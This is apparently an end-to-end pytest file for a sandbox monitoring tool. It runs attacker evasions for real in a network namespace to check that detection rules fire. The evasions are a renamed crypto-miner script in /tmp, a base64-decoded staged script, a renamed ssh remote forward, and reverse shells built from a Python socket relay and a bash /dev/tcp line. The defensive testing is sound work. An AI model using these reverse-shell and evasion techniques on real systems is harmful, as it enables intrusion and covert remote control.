"""Evasions: the red team's ways of hiding a rogue action, done for real in a sandbox, must
still raise the rule that judges what the process is or does, not what it is called.

Each scenario runs `sandtrace run` as a real process (collector enrichment and the built-in
pack), its command in the sandbox's network namespace, against the real test hosts outside;
the spellings differ from the rule pack's own examples on purpose.
"""

from __future__ import annotations

import base64
import json
import secrets
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.conftest import NetNS
from tests.e2e.test_incidents import Run, expect, sandtrace_run
from tests.e2e.testhosts import MINER_SCRIPT, PYTHON, MiningPool, SshServer

ROOT_DIR = Path(__file__).resolve().parents[2]
VENV_PYTHON = ROOT_DIR / ".venv" / "bin" / "python"

STAGING_EXEC = "959a2417-38ba-4d2d-a353-833a34e67300"  # payload_exec_staging_dir
DECODE_TO_STAGING = "888f8974-c4cf-4627-a556-cae1b137e686"  # payload_decode_to_staging
POOL_PORT = "5931842a-6182-416b-a305-59a37a8050a4"  # miner_pool_port_connect
STAGED_POOL_PORT = "d7ed41f5-aaa1-4201-9d3d-24a6deee885e"  # miner_pool_port_from_staging
SSH_REMOTE_FORWARD = "d3242286-443d-46a8-98e0-0ee9c2e4d9c4"  # ssh_remote_forward
STDIO_SHELL = "79a79218-019c-492b-9b18-e0cd46d1ee1d"  # revshell_stdio_network_shell
STDIO_SAME_SOCKET = "2e7c6de2-8fd0-448e-9e36-a233ca424705"  # revshell_stdio_same_socket
CONNECT_THEN_SHELL = "12d789ba-c2af-44a6-ba87-59511ea30ded"  # connect, then a shell in place


@pytest.fixture
def staging() -> Iterator[Path]:
    """A fresh directory under /tmp, where droppers stage what they run."""
    path = Path("/tmp") / f"st-e2e-{secrets.token_hex(4)}"
    path.mkdir()
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def by_rule(run: Run, rule_id: str) -> list[dict[str, Any]]:
    return [a for a in run.alerts if a["rule_id"] == rule_id]


def execs(run: Run, suffix: str) -> list[dict[str, Any]]:
    return [e for e in run.events if e["kind"] == "exec" and e["filename"].endswith(suffix)]


def test_shebang_script_in_tmp_mines_to_the_pool(
    testnet: NetNS, mining_pool: MiningPool, staging: Path, work: Path
) -> None:
    # A '#!' script under a harmless name, configured by file: no miner name, no pool URL
    # in argv, and the executable the kernel runs is /usr/bin/python3.
    script = staging / "sync"
    shutil.copy(MINER_SCRIPT, script)
    script.chmod(0o755)
    (staging / "settings.json").write_text(
        json.dumps({"pools": [{"url": mining_pool.url, "user": "WALLET-SHEBANG", "pass": "x"}]})
    )
    run = sandtrace_run(testnet, f"{script} -c {staging / 'settings.json'}", work)
    assert "WALLET-SHEBANG" in mining_pool.wallets()
    exec_alerts = expect(run, "#! script in /tmp", "payloads")
    [event] = execs(run, "/sync")
    assert event["process"]["exe"].startswith("/usr/bin/python3")  # Image is the interpreter
    assert any(a["rule_id"] == STAGING_EXEC for a in exec_alerts)
    expect(run, "#! script in /tmp mining", "miners")
    pids = {event["process"]["pid"]}
    for rule in (POOL_PORT, STAGED_POOL_PORT):
        assert {a["process"]["pid"] for a in by_rule(run, rule)} == pids, rule


def test_atomic_t1027_decoded_script_written_to_tmp_and_run(
    testnet: NetNS, staging: Path, work: Path
) -> None:
    # Atomic Red Team T1027 #1: base64 into a file, decoded into /tmp, made executable, run
    # (the decoded script has no '#!', so the shell runs it itself), then once more by bash.
    # The decoder's input stays open a second: the collector reads a live process's streams,
    # and a decoder that is done in microseconds may be gone before it looks.
    encoded = base64.b64encode(b"echo Hello from the Atomic Red Team\n").decode()
    dat, art = staging / "encoded.dat", staging / "art.sh"
    script = (
        f"echo {encoded} > {dat}; {{ cat {dat}; sleep 1; }} | base64 -d > {art}; "
        f"chmod +x {art}; {art}; bash {art}"
    )
    run = sandtrace_run(testnet, script, work)
    expect(run, "T1027 #1", "payloads")
    [decoder] = [e for e in run.events if e["kind"] == "exec" and e["argv"][:2] == ["base64", "-d"]]
    assert decoder["stdio"][1] == f"file:{art}"  # what the collector saw of the redirect
    decoded = by_rule(run, DECODE_TO_STAGING)
    assert decoder["process"]["pid"] in {a["process"]["pid"] for a in decoded}
    [bash] = [e for e in run.events if e["kind"] == "exec" and e["argv"] == ["bash", str(art)]]
    assert bash["process"]["pid"] in {a["process"]["pid"] for a in by_rule(run, STAGING_EXEC)}


def test_renamed_ssh_opens_a_remote_forward(testnet: NetNS, sshd: SshServer, work: Path) -> None:
    helper = work / "helper"
    ssh = " ".join(["./helper", *sshd.client_argv()[1:]])
    script = (
        f"cp /usr/bin/ssh {helper} && {ssh} -fN -R 18081:127.0.0.1:8000 {sshd.destination}"
        " && sleep 2"
    )
    run = sandtrace_run(testnet, script, work)
    [event] = [e for e in run.events if e["kind"] == "exec" and e["process"]["exe"] == str(helper)]
    # The collector knows the copy for what it is (byte-identical to the packaged ssh).
    assert event["original_exe"] == "/usr/bin/ssh", event["original_exe"]
    alerts = expect(run, "renamed ssh -R", "tunnels")
    assert str(helper) in {
        a["process"]["exe"] for a in alerts if a["rule_id"] == SSH_REMOTE_FORWARD
    }


RELAY = """\
import os, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh"])
"""


def test_sh_on_a_socket_from_a_python_relay_script(testnet: NetNS, work: Path) -> None:
    # No one-liner, no /dev/tcp, no nc: a script file connects, puts the socket on its
    # standard streams and becomes sh. Only what the streams are gives it away.
    (work / "relay.py").write_text(RELAY)
    catcher = testnet.shell_catcher(4450, "sleep 1; exit", hangup_s=3)
    try:
        run = sandtrace_run(testnet, f"{PYTHON} relay.py {testnet.outside_addr} 4450; true", work)
    finally:
        catcher.kill()
        catcher.wait()
    expect(run, "sh on a socket", "reverse_shells")
    [shell] = [e for e in run.events if e["kind"] == "exec" and e["argv"] == ["sh"]]
    peer = f"tcp:{testnet.outside_addr}:4450"
    assert shell["stdio"][:2] == [peer, peer], shell["stdio"]
    for rule in (STDIO_SHELL, STDIO_SAME_SOCKET):
        assert shell["process"]["pid"] in {a["process"]["pid"] for a in by_rule(run, rule)}, rule
    assert by_rule(run, CONNECT_THEN_SHELL), sorted(run.themes())


def test_a_shell_on_a_socket_that_exits_at_once(testnet: NetNS, work: Path) -> None:
    # The relay's shell runs one builtin and is gone within a millisecond: long before
    # anything could read /proc/PID/fd. Its streams, captured at exec, still give it away.
    (work / "once.py").write_text(RELAY.replace('["sh"]', '["sh", "-c", ":"]'))
    catcher = testnet.shell_catcher(4451, "", hangup_s=1)
    try:
        run = sandtrace_run(testnet, f"{PYTHON} once.py {testnet.outside_addr} 4451; true", work)
    finally:
        catcher.kill()
        catcher.wait()
    [shell] = [e for e in run.events if e["kind"] == "exec" and e["argv"] == ["sh", "-c", ":"]]
    peer = f"tcp:{testnet.outside_addr}:4451"
    assert shell["stdio"] == [peer, peer, peer], shell["stdio"]
    for rule in (STDIO_SHELL, STDIO_SAME_SOCKET):
        assert shell["process"]["pid"] in {a["process"]["pid"] for a in by_rule(run, rule)}, rule


def test_a_shell_run_on_an_inherited_socket_for_one_builtin(testnet: NetNS, work: Path) -> None:
    # The operator's socket sits on fd 3 of a bash that stays quiet; each command is a
    # one-shot 'sh -c CMD <&3 >&3' done in a millisecond.
    catcher = testnet.shell_catcher(4452, "", hangup_s=1)
    script = f"bash -c 'exec 3<>/dev/tcp/{testnet.outside_addr}/4452; sh -c : <&3 >&3'; true"
    try:
        run = sandtrace_run(testnet, script, work)
    finally:
        catcher.kill()
        catcher.wait()
    [shell] = [e for e in run.events if e["kind"] == "exec" and e["argv"] == ["sh", "-c", ":"]]
    peer = f"tcp:{testnet.outside_addr}:4452"
    assert shell["stdio"][:2] == [peer, peer], shell["stdio"]
    for rule in (STDIO_SHELL, STDIO_SAME_SOCKET):
        assert shell["process"]["pid"] in {a["process"]["pid"] for a in by_rule(run, rule)}, rule


def _wheel(dist: Path) -> Path:
    """A minimal pure-Python wheel, built without network or build tools."""
    dist.mkdir()
    path = dist / "calc-1.0-py3-none-any.whl"
    files = {
        "calc.py": "def add(a, b):\n    return a + b\n",
        "calc-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: calc\nVersion: 1.0\n",
        "calc-1.0.dist-info/WHEEL": (
            "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
    }
    record = "".join(f"{name},,\n" for name in files) + "calc-1.0.dist-info/RECORD,,\n"
    with zipfile.ZipFile(path, "w") as whl:
        for name, text in files.items():
            whl.writestr(name, text)
        whl.writestr("calc-1.0.dist-info/RECORD", record)
    return path


def test_benign_agent_workload_raises_nothing_at_medium_or_above(
    testnet: NetNS, work: Path
) -> None:
    wheel = _wheel(work / "dist")
    (work / "scripts").mkdir()
    (work / "scripts" / "build.sh").write_text("#!/bin/sh\nset -e\ncc -o hello hello.c\n")
    (work / "scripts" / "build.sh").chmod(0o755)
    (work / "run_tests.sh").write_text(
        f"set -e\nPYTHONPATH=site {VENV_PYTHON} -m pytest -q -p no:cacheprovider tests\n"
    )
    (work / "hello.c").write_text('#include <stdio.h>\nint main(void){puts("hi");return 0;}\n')
    (work / "tests").mkdir()
    (work / "tests" / "test_calc.py").write_text(
        "from calc import add\n\ndef test_add():\n    assert add(1, 2) == 3\n"
    )
    script = " && ".join(
        [
            f"{VENV_PYTHON} -m pip install -q --no-index --no-deps --target site {wheel}",
            "./scripts/build.sh",
            "./hello",
            "bash ./run_tests.sh",
            "git init -q repo",
            "git -C repo -c user.email=a@example.org -c user.name=a commit -q --allow-empty -m one",
            f"{PYTHON} -c 'import base64; print(base64.b64encode(b\"x\"))'",
            "ssh -V 2>/dev/null",
        ]
    )
    run = sandtrace_run(testnet, script, work, "--egress-allow", "0.0.0.0/0")
    assert run.returncode == 0, run.stderr
    assert (work / "site" / "calc.py").exists(), "pip did not install the wheel"
    assert [e for e in run.events if e["kind"] == "exec" and e["argv"][:1] == ["./hello"]]
    loud = [a for a in run.alerts if a["level"] in {"medium", "high", "critical"}]
    assert loud == [], [(a["title"], a["process"]["argv"], a["events"][0]["kind"]) for a in loud]
